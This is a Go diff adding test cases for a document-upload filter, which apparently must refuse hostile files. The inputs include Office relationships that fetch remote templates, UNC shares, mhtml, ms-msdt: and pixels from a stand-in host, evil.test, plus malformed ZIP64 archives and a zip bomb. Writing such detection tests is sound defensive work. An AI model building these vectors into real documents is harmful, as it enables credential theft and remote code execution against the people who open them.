@@ -40,6 +40,14 @@ func broken(body []byte, at int) []byte {
 	return body
 }
 
+// changed is a file that a program wrote, with another byte so far after a mark.
+func changed(name, mark string, at int, to byte) []byte {
+	body := Made(name)
+	body = bytes.Clone(body)
+	body[bytes.Index(body, []byte(mark))+at] = to
+	return body
+}
+
 // Refused are files of which nothing is ever kept.
 func Refused() []File {
 	small := PNG(Scene(30, 30))
@@ -120,6 +128,29 @@ func Refused() []File {
 		{"vba.odt", OpenDocument(desk.ODT.MediaType(), Part{Name: "word/vbaProject.bin", Body: "a"}), desk.FileHasMacros},
 		{"both.odt", OpenDocument(desk.ODT.MediaType(), Part{Name: "[Content_Types].xml", Body: "<Types/>"}), desk.FileNotAllowed},
 		{"python.ods", OpenDocument(desk.ODS.MediaType(), Part{Name: "Scripts/python/a.py", Body: "a"}), desk.FileHasMacros},
+		// What is fetched when it is opened, wherever from and however it is written.
+		{"template.docx", Related(Office+"attachedTemplate", "https://evil.test/a.dotm", true), desk.FileFetches},
+		{"http.docx", Related(Office+"attachedTemplate", "http://evil.test/a.dotm", true), desk.FileFetches},
+		{"file.docx", Related(Office+"attachedTemplate", `file:///C:\a.dotm`, true), desk.FileFetches},
+		{"share.docx", Related(Office+"attachedTemplate", `\\evil.test\share\a.dotm`, true), desk.FileFetches},
+		{"slashes.docx", Related(Office+"attachedTemplate", "//evil.test/share/a.dotm", true), desk.FileFetches},
+		{"escaped.docx", Related(Office+"attachedTemplate", "%5C%5Cevil.test%5Ca.dotm", true), desk.FileFetches},
+		{"upper.docx", Related(Office+"attachedTemplate", " HTTPS://evil.test/a.dotm", true), desk.FileFetches},
+		{"odd.docx", Related(Office+"attachedTemplate", "mhtml:http://evil.test/a.html!x", true), desk.FileFetches},
+		{"object.docx", Related(Office+"oleObject", "ms-msdt:/id", true), desk.FileFetches},
+		{"pixel.docx", Related(Office+"image", "https://evil.test/a.png", true), desk.FileFetches},
+		{"frame.docx", Related(Office+"frame", "http://evil.test/a.html", true), desk.FileFetches},
+		{"mode.docx", Document(DOCX, "word/document.xml", Part{Name: "word/_rels/settings.xml.RELS",
+			Body: `<r:Relationships xmlns:r="a"><r:relationship TYPE="` + Office + `attachedTemplate" TARGETMODE="external" TARGET="&#x68;ttps://evil.test/"/></r:Relationships>`}), desk.FileFetches},
+		{"unsaid.docx", Related(Office+"attachedTemplate", "https://evil.test/a.dotm", false), desk.FileFetches},
+		{"like.docx", Related("http://evil.test/nohyperlink", "https://evil.test/", true), desk.FileFetches},
+		{"book.xlsx", Document(XLSX, "xl/workbook.xml", Part{Name: "xl/externalLinks/_rels/externalLink1.xml.rels",
+			Body: Relations(Office+"externalLinkPath", `file:///\\evil.test\share\a.xlsx`, true)}), desk.FileFetches},
+		{"slides.pptx", Document(PPTX, "ppt/presentation.xml", Part{Name: "ppt/slides/_rels/slide1.xml.rels",
+			Body: Relations(Office+"video", "https://evil.test/a.mp4", true)}), desk.FileFetches},
+		{"damaged.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: "<Relationships"}), desk.FileDamaged},
+		{"wide16.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: "\xff\xfe<\x00a\x00/\x00>\x00"}), desk.FileDamaged},
+		{"endless.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: strings.Repeat(" ", 5<<20)}), desk.ArchiveTooLarge},
 		// Locked.
 		{"locked.docx", Compound("EncryptedPackage"), desk.FileLocked}, {"entry.docx", Locked(Document(DOCX, "word/document.xml")), desk.FileLocked},
 		{"locked.odt", OpenDocument(desk.ODT.MediaType(), Part{Name: "META-INF/manifest.xml", Body: "<a><manifest:encryption-data/></a>"}), desk.FileLocked},
@@ -152,6 +183,14 @@ func Refused() []File {
 		{"names.zip", Directory(Made("some.zip"), func(line []byte) { line[46] ^= 1 }), desk.FileDamaged},
 		{"same.zip", Directory(Archive(Part{Name: "a", Body: "1"}, Part{Name: "b", Body: "2"}), func(line []byte) { copy(line[42:46], "\x00\x00\x00\x00") }), desk.FileDamaged},
 		{"outside.zip", Directory(Made("some.zip"), func(line []byte) { copy(line[20:24], "\xff\xff\xff\x7f") }), desk.FileDamaged},
+		// The wide form, saying two things or nothing.
+		{"count64.zip", changed("wide.zip", "PK\x06\x06", 32, 3), desk.FileDamaged}, {"disk64.zip", changed("wide.zip", "PK\x06\x06", 20, 1), desk.FileDamaged},
+		{"end64.zip", changed("wide.zip", "PK\x06\x06", 4, 45), desk.FileDamaged}, {"where64.zip", changed("wide.zip", "PK\x06\x07", 8, 1), desk.FileDamaged},
+		{"disks64.zip", changed("wide.zip", "PK\x06\x07", 16, 2), desk.FileDamaged}, {"old64.zip", changed("wide.zip", "PK\x05\x06", 10, 3), desk.FileDamaged},
+		{"begin64.zip", changed("wide.zip", "PK\x06\x06", 48, 1), desk.FileDamaged}, {"none64.zip", changed("wide.zip", "PK\x06\x07", 0, 'Q'), desk.FileDamaged},
+		{"field64.zip", changed("wide.zip", "PK\x01\x02", 46+5, 2), desk.FileDamaged}, {"short64.zip", changed("wide.zip", "PK\x01\x02", 46+5+2, 8), desk.FileDamaged},
+		{"packed64.zip", changed("wide.zip", "PK\x01\x02", 46+5+4+8+7, 0x80), desk.FileDamaged}, {"far64.zip", changed("wide.zip", "PK\x01\x02", 46+5+4+7, 0xff), desk.ArchiveTooLarge},
+		{"size64.zip", changed("wide.zip", "PK\x01\x02", 46+5+4+3, 0x10), desk.ArchiveTooLarge},
 		{"bomb.zip", Unpacking(Made("some.zip"), 1<<30), desk.ArchiveTooLarge}, {"bomb.docx", Unpacking(Made("letter.docx"), 1<<30), desk.ArchiveTooLarge},
 		{"many.zip", many(10_001), desk.ArchiveTooLarge}, {"zeros.docx", typed(strings.Repeat(" ", 20<<20)), desk.ArchiveTooLarge},
 		{"lying.docx", Unpacking(typed(strings.Repeat(" ", 20<<20)), 100), desk.FileDamaged}, {"entities.docx", typed(`<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>`), desk.FileDamaged},
